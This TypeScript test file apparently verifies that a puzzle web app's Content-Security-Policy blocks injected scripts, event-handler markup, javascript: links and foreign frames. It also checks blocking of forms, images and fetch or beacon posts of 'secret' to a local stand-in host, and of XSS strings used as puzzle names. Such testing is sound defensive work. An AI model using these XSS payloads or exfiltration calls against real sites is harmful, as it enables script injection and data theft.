// The page's policy: it lets everything through that the page does, and nothing else.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import test from "node:test";
import {
  button,
  engine,
  host,
  launch,
  openPuzzle,
  type Page,
  said,
  setUp,
  verdict,
  watch,
} from "./support.ts";

const browser = setUp();
const guide = readFileSync(new URL("../../docs/web.md", import.meta.url), "utf8");

/** The policy in the page itself. */
const policyOf = (page: Page) =>
  page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");

/** A host of another origin, which notes what is asked of it. */
async function stranger() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" });
    response.end("globalThis.hacked = true");
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  const { port } = server.address() as AddressInfo;
  const end = () => {
    server.close();
    server.closeAllConnections();
  };
  return { address: `http://127.0.0.1:${port}/`, asked, end };
}

const isHacked = (page: Page) => page.evaluate(() => "hacked" in globalThis);

test("the guide names the header that says the same, and who may frame the page", () =>
  browser.visit(async (page) => {
    assert.ok(guide.includes(`Content-Security-Policy: ${await policyOf(page)}; frame-ancestors 'none'\n`));
  }));

test("with that header, which workers obey as well, the page works", async () => {
  const [, policy = ""] = /^Content-Security-Policy: (.*)$/m.exec(guide) ?? [];
  const [{ address, server }, chromium] = await Promise.all([
    host(undefined, { "content-security-policy": policy }),
    launch(),
  ]);
  try {
    const page = await chromium.newPage();
    const errors: string[] = [];
    watch(page, errors);
    await page.goto(`${address}#make`);
    await verdict(page, "unique");
    await button(page, "Solve").click();
    await said(page, "Solved in");
    await Promise.all([page.waitForEvent("download"), button(page, "PNG").click()]);
    await button(page, "Help").click();
    await button(page, "Close").first().click();
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.reload();
    await verdict(page, "unique");
    assert.deepEqual(errors, []);
  } finally {
    await chromium.close();
    server.close();
    server.closeAllConnections();
  }
});

/** What an attacker would try who can write into the page, and the directive that is in the way. */
const ATTACKS: Record<string, { directive: string; attack: (stranger: string) => void }> = {
  "a script in the page": {
    directive: "require-trusted-types-for",
    attack: () => {
      const script = document.createElement("script");
      script.append("globalThis.hacked = true");
      document.body.append(script);
    },
  },
  "a script of another host": {
    directive: "require-trusted-types-for",
    attack: (stranger) => {
      const script = document.createElement("script");
      script.src = `${stranger}script.js`;
      document.body.append(script);
    },
  },
  "markup with a handler": {
    directive: "require-trusted-types-for",
    attack: () => {
      const div = document.createElement("div");
      div.innerHTML = '<img src="x" onerror="globalThis.hacked = true">';
      document.body.append(div);
    },
  },
  "a handler": {
    directive: "require-trusted-types-for",
    attack: () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "globalThis.hacked = true");
      image.src = "./nowhere.png";
    },
  },
  "a text that is run": {
    directive: "require-trusted-types-for",
    attack: () => void setTimeout("globalThis.hacked = true"),
  },
  "a worker of another script": {
    directive: "require-trusted-types-for",
    attack: (stranger) => void new Worker(`${stranger}script.js`),
  },
  "a policy of its own": {
    directive: "trusted-types",
    attack: () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy("unicursal", {});
    },
  },
  "a module of another host": {
    directive: "script-src-elem",
    attack: (stranger) => void import(`${stranger}script.js`).catch(() => undefined),
  },
  "an image of another host": {
    directive: "img-src",
    attack: (stranger) => {
      new Image().src = `${stranger}image.png`;
    },
  },
  "a style in the page": {
    directive: "style-src-elem",
    attack: () => {
      const style = document.createElement("style");
      style.append("* { display: none }");
      document.head.append(style);
    },
  },
  "a message to another host": {
    directive: "connect-src",
    attack: (stranger) =>
      void fetch(`${stranger}take`, { method: "POST", body: "secret" }).catch(() => undefined),
  },
  "a beacon to another host": {
    directive: "connect-src",
    attack: (stranger) => void navigator.sendBeacon(`${stranger}take`, "secret"),
  },
  "a frame of another host": {
    directive: "frame-src",
    attack: (stranger) => {
      const frame = document.createElement("iframe");
      frame.src = stranger;
      document.body.append(frame);
    },
  },
  "a form to another host": {
    directive: "form-action",
    attack: (stranger) => {
      const form = document.createElement("form");
      form.action = `${stranger}take`;
      document.body.append(form);
      form.submit();
    },
  },
  "another base for addresses": {
    directive: "base-uri",
    attack: (stranger) => {
      const base = document.createElement("base");
      base.href = stranger;
      document.head.append(base);
    },
  },
};

for (const [name, { directive, attack }] of Object.entries(ATTACKS)) {
  test(`${name} is blocked`, async () => {
    const other = await stranger();
    const context = await browser.browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`${browser.hosted.address}#make`);
      await verdict(page, "unique");
      await page.evaluate(() => {
        const blocked: string[] = [];
        addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
        Object.assign(globalThis, { blocked });
      });
      // What is thrown is thrown at the attacker.
      await page.evaluate(attack, other.address).catch(() => undefined);
      await page.waitForFunction(() => (globalThis as unknown as { blocked: string[] }).blocked.length > 0);
      const blocked = await page.evaluate(() => (globalThis as unknown as { blocked: string[] }).blocked);
      assert.ok(blocked.includes(directive), blocked.join());
      await page.waitForTimeout(50);
      assert.equal(await isHacked(page), false);
      assert.deepEqual(other.asked, []);
    } finally {
      await context.close();
      other.end();
    }
  });
}

test("markup that someone has put into the page does nothing", async () => {
  const other = await stranger();
  const context = await browser.browser.newContext({ serviceWorkers: "block" });
  try {
    const page = await context.newPage();
    await page.addInitScript(() => {
      const blocked: string[] = [];
      addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
      Object.assign(globalThis, { blocked });
    });
    const added =
      '<script>globalThis.hacked = true</script><p style="color: red" onclick="globalThis.hacked = true">words</p>' +
      '<svg onload="globalThis.hacked = true"></svg><a href="javascript:globalThis.hacked = true">link</a>' +
      `<script src="${other.address}script.js"></script><link rel="stylesheet" href="${other.address}style.css">`;
    await page.route(browser.hosted.address, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace("</body>", `${added}</body>`) });
    });
    await page.goto(`${browser.hosted.address}#make`);
    await verdict(page, "unique");
    await page.getByText("words").click();
    await page.getByText("link", { exact: true }).click();
    await page.waitForTimeout(100);
    const blocked = await page.evaluate(() => (globalThis as unknown as { blocked: string[] }).blocked);
    assert.deepEqual([...new Set(blocked)].sort(), [
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
    ]);
    assert.equal(await isHacked(page), false);
    assert.deepEqual(other.asked, []);
  } finally {
    await context.close();
    other.end();
  }
});

test("names with markup are shown as they are, and do nothing", () =>
  browser.visit(async (page) => {
    const [kind = ""] = engine.kinds();
    const puzzle = engine.generate({ kind, size: [4, 4], seed: 1 });
    for (const name of [
      "<script>globalThis.hacked = true</script>",
      '" onload="globalThis.hacked = true',
      "</title><svg onload='globalThis.hacked = true'>",
      "<img src=x onerror=globalThis.hacked=true>",
      "]]><!--",
    ]) {
      await openPuzzle(page, { ...puzzle, name });
      await said(page, "Opened");
      assert.ok((await page.locator(".notice").textContent())?.includes(name), name);
      await button(page, "Solve").click();
      await said(page, "Solved in");
      assert.equal(await isHacked(page), false);
      assert.equal(await page.locator("#app :is(script, svg title, [onload], [onerror])").count(), 0);
    }
  }));

test("a picture runs and loads nothing, whatever is in it", async () => {
  const other = await stranger();
  const context = await browser.browser.newContext({ bypassCSP: true, serviceWorkers: "block" });
  try {
    const page = await context.newPage();
    const hostile =
      'role="img" onload="parent.hacked = top.hacked = globalThis.hacked = true">' +
      `<script>parent.hacked = globalThis.hacked = true</script><image href="${other.address}image.png"/>` +
      `<script href="${other.address}script.js"/><style>@import "${other.address}style.css";</style>`;
    // The first picture is part of the script.
    await page.route("**/assets/index-*.js", async (route) => {
      const response = await route.fetch();
      const before = await response.text();
      const body = before.replaceAll(/role=(\\?)"img\1">/g, (_, backslash) =>
        hostile.replaceAll('"', `${backslash}"`),
      );
      assert.notEqual(body, before);
      await route.fulfill({ response, body });
    });
    await page.goto(`${browser.hosted.address}#make`);
    await verdict(page, "unique");
    await page.waitForTimeout(200);
    assert.equal(await isHacked(page), false);
    assert.deepEqual(other.asked, []);
  } finally {
    await context.close();
    other.end();
  }
});
